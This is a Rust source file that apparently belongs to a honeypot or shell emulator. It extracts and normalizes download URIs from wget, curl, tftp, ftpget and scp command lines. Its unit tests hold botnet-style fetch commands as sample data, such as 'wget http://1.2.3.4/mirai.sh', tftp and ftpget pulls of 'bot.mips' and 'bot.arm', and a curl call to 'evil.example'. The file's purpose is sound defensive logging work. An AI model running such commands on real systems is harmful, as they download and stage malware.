//! URI extraction from command lines.
//!
//! The paper (Section 4): "If a command includes a URI (this includes anything
//! retrieved from a remote target, including retrievals via FTP, HTTP, SCP,
//! etc.), the URI is recorded as well." We recognize two shapes:
//!
//! 1. explicit scheme URIs (`http://`, `https://`, `ftp://`, `tftp://`),
//! 2. tool-specific remote references without a scheme — `tftp -g HOST`,
//!    `ftpget HOST file`, `scp user@host:path` — normalized to a
//!    pseudo-scheme form so downstream analysis sees one format.
//!
//! Two entry points per shape: the owned [`extract_from_argv`]/[`extract_uris`]
//! (compat + tests) and the allocation-free forms the interpreter hot path
//! uses — `record_from_argv` appends spans into the session's event arena,
//! `primary_uri_into` computes the lexicographically-first URI (what the
//! `tftp`/`ftpget` builtins download) in a reusable buffer.

use std::fmt::Write as _;

use crate::lexer::Words;

/// A URI recorded from a command, normalized.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct RecordedUri(pub String);

impl std::fmt::Display for RecordedUri {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

const SCHEMES: &[&str] = &["http://", "https://", "ftp://", "tftp://"];

/// Extract URIs from a single already-tokenized command.
pub fn extract_from_argv(argv: &[String]) -> Vec<RecordedUri> {
    let mut uris = Vec::new();
    let name = argv.first().map(|s| s.as_str()).unwrap_or("");

    // 1. Any token with an explicit scheme.
    for tok in argv {
        if SCHEMES.iter().any(|s| tok.starts_with(s)) {
            uris.push(RecordedUri(tok.clone()));
        }
    }

    // 2. Tool-specific forms.
    match name {
        "tftp" => {
            // busybox tftp: `tftp -g -r FILE HOST` or `tftp HOST -c get FILE`
            if let Some(host) = tftp_host(argv) {
                let file = flag_value(argv, "-r")
                    .or_else(|| get_after(argv, "get"))
                    .unwrap_or_default();
                uris.push(RecordedUri(format!("tftp://{host}/{file}")));
            }
        }
        "ftpget" => {
            // busybox ftpget [-u user] HOST LOCAL REMOTE
            let pos: Vec<&String> = argv[1..]
                .iter()
                .scan(false, |skip, a| {
                    // skip option values of -u/-p/-P
                    if *skip {
                        *skip = false;
                        return Some(None);
                    }
                    if a == "-u" || a == "-p" || a == "-P" {
                        *skip = true;
                        return Some(None);
                    }
                    if a.starts_with('-') {
                        return Some(None);
                    }
                    Some(Some(a))
                })
                .flatten()
                .collect();
            if let Some(host) = pos.first() {
                let remote = pos.get(2).map(|s| s.as_str()).unwrap_or("");
                uris.push(RecordedUri(format!("ftp://{host}/{remote}")));
            }
        }
        "scp" => {
            // scp [-flags] src dst, remote side looks like user@host:path
            for tok in &argv[1..] {
                if let Some(colon) = tok.find(':') {
                    if tok[..colon].contains('@') && !tok.starts_with('-') {
                        uris.push(RecordedUri(format!("scp://{}", tok.replace(':', "/"))));
                    }
                }
            }
        }
        _ => {}
    }
    uris.sort();
    uris.dedup();
    uris
}

fn tftp_host(argv: &[String]) -> Option<String> {
    let mut it = argv[1..].iter().map(|s| s.as_str());
    tftp_host_from(&mut it).map(str::to_string)
}

fn flag_value(argv: &[String], flag: &str) -> Option<String> {
    argv.windows(2).find(|w| w[0] == flag).map(|w| w[1].clone())
}

fn get_after(argv: &[String], word: &str) -> Option<String> {
    argv.windows(2).find(|w| w[0] == word).map(|w| w[1].clone())
}

/// Extract URIs from a raw command line (lexes it first).
pub fn extract_uris(line: &str) -> Vec<RecordedUri> {
    let mut uris = Vec::new();
    for stmt in crate::lexer::split_statements(line) {
        for cmd in &stmt.pipeline {
            uris.extend(extract_from_argv(&cmd.argv));
        }
    }
    uris.sort();
    uris.dedup();
    uris
}

// ---------------------------------------------------------------------------
// Allocation-free forms over borrowed argv

/// Host = first non-flag token that is not a flag value (busybox tftp).
fn tftp_host_from<'a>(args: &mut impl Iterator<Item = &'a str>) -> Option<&'a str> {
    let mut skip_next = false;
    for a in args {
        if skip_next {
            skip_next = false;
            continue;
        }
        match a {
            "-r" | "-l" | "-b" | "-c" => skip_next = true,
            "get" | "put" => {
                // `-c get FILE`: FILE handled separately
                skip_next = true;
            }
            s if s.starts_with('-') => {}
            s => return Some(s),
        }
    }
    None
}

fn flag_value_w<'a>(argv: Words<'a>, flag: &str) -> Option<&'a str> {
    let mut it = argv.iter();
    while let Some(w) = it.next() {
        if w == flag {
            return it.next();
        }
    }
    None
}

/// The k-th positional argument of `ftpget` (option values of -u/-p/-P and
/// flags skipped), matching the owned extractor's scan.
pub(crate) fn ftpget_positional(argv: Words<'_>, idx: usize) -> Option<&str> {
    let mut skip = false;
    let mut seen = 0usize;
    for a in argv.tail(1).iter() {
        if skip {
            skip = false;
            continue;
        }
        if a == "-u" || a == "-p" || a == "-P" {
            skip = true;
            continue;
        }
        if a.starts_with('-') {
            continue;
        }
        if seen == idx {
            return Some(a);
        }
        seen += 1;
    }
    None
}

/// Append this command's URIs to the session event arena (`text` holds the
/// bytes, `uris` the spans). Same URI set as [`extract_from_argv`]; per-command
/// sort/dedup is skipped because the session log sorts and dedups once at
/// harvest and nothing observes the intermediate order.
pub(crate) fn record_from_argv(argv: Words<'_>, text: &mut String, uris: &mut Vec<(u32, u32)>) {
    let name = argv.first().unwrap_or("");
    let mut push = |text: &mut String, start: usize| {
        uris.push((start as u32, text.len() as u32));
    };

    for tok in argv.iter() {
        if SCHEMES.iter().any(|s| tok.starts_with(s)) {
            let start = text.len();
            text.push_str(tok);
            push(text, start);
        }
    }

    match name {
        "tftp" => {
            if let Some(host) = tftp_host_from(&mut argv.tail(1).iter()) {
                let file = flag_value_w(argv, "-r")
                    .or_else(|| flag_value_w(argv, "get"))
                    .unwrap_or("");
                let start = text.len();
                let _ = write!(text, "tftp://{host}/{file}");
                push(text, start);
            }
        }
        "ftpget" => {
            if let Some(host) = ftpget_positional(argv, 0) {
                let remote = ftpget_positional(argv, 2).unwrap_or("");
                let start = text.len();
                let _ = write!(text, "ftp://{host}/{remote}");
                push(text, start);
            }
        }
        "scp" => {
            for tok in argv.tail(1).iter() {
                if let Some(colon) = tok.find(':') {
                    if tok[..colon].contains('@') && !tok.starts_with('-') {
                        let start = text.len();
                        text.push_str("scp://");
                        for c in tok.chars() {
                            text.push(if c == ':' { '/' } else { c });
                        }
                        push(text, start);
                    }
                }
            }
        }
        _ => {}
    }
}

/// The URI a transfer builtin acts on: the lexicographically-first of the
/// command's URIs (`extract_from_argv(..).first()` — that list is sorted).
/// Built in `buf` so steady-state calls don't allocate.
pub(crate) fn primary_uri_into<'s>(argv: Words<'_>, buf: &'s mut String) -> Option<&'s str> {
    buf.clear();
    let name = argv.first().unwrap_or("");
    let mut have_tool = false;
    match name {
        "tftp" => {
            if let Some(host) = tftp_host_from(&mut argv.tail(1).iter()) {
                let file = flag_value_w(argv, "-r")
                    .or_else(|| flag_value_w(argv, "get"))
                    .unwrap_or("");
                let _ = write!(buf, "tftp://{host}/{file}");
                have_tool = true;
            }
        }
        "ftpget" => {
            if let Some(host) = ftpget_positional(argv, 0) {
                let remote = ftpget_positional(argv, 2).unwrap_or("");
                let _ = write!(buf, "ftp://{host}/{remote}");
                have_tool = true;
            }
        }
        "scp" => {
            // Several remote operands are possible; keep the smallest
            // translated form. (The translation ':'→'/' is not
            // order-preserving, so candidates must be compared translated —
            // scp is not on the allocation-free path, a temp is fine.)
            for tok in argv.tail(1).iter() {
                if let Some(colon) = tok.find(':') {
                    if tok[..colon].contains('@') && !tok.starts_with('-') {
                        let mut cand = String::with_capacity(6 + tok.len());
                        cand.push_str("scp://");
                        for c in tok.chars() {
                            cand.push(if c == ':' { '/' } else { c });
                        }
                        if !have_tool || cand < *buf {
                            buf.clear();
                            buf.push_str(&cand);
                        }
                        have_tool = true;
                    }
                }
            }
        }
        _ => {}
    }
    let min_scheme = argv
        .iter()
        .filter(|t| SCHEMES.iter().any(|s| t.starts_with(s)))
        .min();
    match (have_tool, min_scheme) {
        (true, Some(m)) => {
            if m < buf.as_str() {
                buf.clear();
                buf.push_str(m);
            }
        }
        (true, None) => {}
        (false, Some(m)) => buf.push_str(m),
        (false, None) => return None,
    }
    Some(buf.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::LineBuf;

    fn argv(parts: &[&str]) -> Vec<String> {
        parts.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn http_uri_detected() {
        let u = extract_from_argv(&argv(&["wget", "http://1.2.3.4/mirai.sh"]));
        assert_eq!(u, vec![RecordedUri("http://1.2.3.4/mirai.sh".into())]);
    }

    #[test]
    fn curl_https() {
        let u = extract_from_argv(&argv(&["curl", "-O", "https://evil.example/x"]));
        assert_eq!(u.len(), 1);
        assert!(u[0].0.starts_with("https://"));
    }

    #[test]
    fn tftp_get_form() {
        let u = extract_from_argv(&argv(&["tftp", "-g", "-r", "bot.mips", "198.51.100.7"]));
        assert_eq!(u, vec![RecordedUri("tftp://198.51.100.7/bot.mips".into())]);
    }

    #[test]
    fn tftp_c_get_form() {
        let u = extract_from_argv(&argv(&["tftp", "198.51.100.9", "-c", "get", "a.sh"]));
        assert_eq!(u, vec![RecordedUri("tftp://198.51.100.9/a.sh".into())]);
    }

    #[test]
    fn ftpget_form() {
        let u = extract_from_argv(&argv(&[
            "ftpget",
            "-u",
            "anonymous",
            "203.0.113.5",
            "x",
            "bot.arm",
        ]));
        assert_eq!(u, vec![RecordedUri("ftp://203.0.113.5/bot.arm".into())]);
    }

    #[test]
    fn scp_form() {
        let u = extract_from_argv(&argv(&["scp", "root@198.51.100.2:/tmp/x", "."]));
        assert_eq!(
            u,
            vec![RecordedUri("scp://root@198.51.100.2//tmp/x".into())]
        );
    }

    #[test]
    fn no_uri_in_local_commands() {
        assert!(extract_from_argv(&argv(&["uname", "-a"])).is_empty());
        assert!(extract_from_argv(&argv(&["echo", "hello"])).is_empty());
    }

    #[test]
    fn full_line_extraction_dedupes() {
        let u = extract_uris("cd /tmp; wget http://h/x; wget http://h/x && chmod 777 x");
        assert_eq!(u.len(), 1);
    }

    #[test]
    fn pipeline_right_side_scanned() {
        let u = extract_uris("echo go | wget http://h/y");
        assert_eq!(u.len(), 1);
    }

    /// The arena recorder yields the same URI multiset (pre sort/dedup) as the
    /// owned extractor, and the primary URI matches `first()` of the sorted
    /// list, across the tool-form zoo.
    #[test]
    fn borrowed_forms_match_owned_extractor() {
        let lines = [
            "wget http://1.2.3.4/mirai.sh http://0.0.0.0/a",
            "tftp -g -r bot.mips 198.51.100.7",
            "tftp 198.51.100.9 -c get a.sh",
            "ftpget -u anonymous 203.0.113.5 x bot.arm",
            "ftpget 203.0.113.5 local.bin remote.bin",
            "scp root@198.51.100.2:/tmp/x .",
            "curl -O https://evil.example/x; uname -a",
            "tftp http://also.a/scheme -g -r f 10.0.0.1",
        ];
        let mut buf = LineBuf::new();
        for line in lines {
            buf.parse(line);
            let owned_stmts = crate::lexer::split_statements(line);
            let owned_cmds: Vec<_> = owned_stmts.iter().flat_map(|s| s.pipeline.iter()).collect();
            let views: Vec<_> = buf.statements().flat_map(|s| s.commands()).collect();
            assert_eq!(views.len(), owned_cmds.len(), "line: {line}");
            {
                for (cmd, owned) in views.into_iter().zip(owned_cmds) {
                    let mut text = String::new();
                    let mut spans = Vec::new();
                    record_from_argv(cmd.argv(), &mut text, &mut spans);
                    let mut got: Vec<String> = spans
                        .iter()
                        .map(|&(s, e)| text[s as usize..e as usize].to_string())
                        .collect();
                    got.sort();
                    got.dedup();
                    let want: Vec<String> = extract_from_argv(&owned.argv)
                        .into_iter()
                        .map(|u| u.0)
                        .collect();
                    assert_eq!(got, want, "line: {line}");

                    let mut pbuf = String::new();
                    assert_eq!(
                        primary_uri_into(cmd.argv(), &mut pbuf).map(str::to_string),
                        want.first().cloned(),
                        "primary for line: {line}"
                    );
                }
            }
        }
    }
}
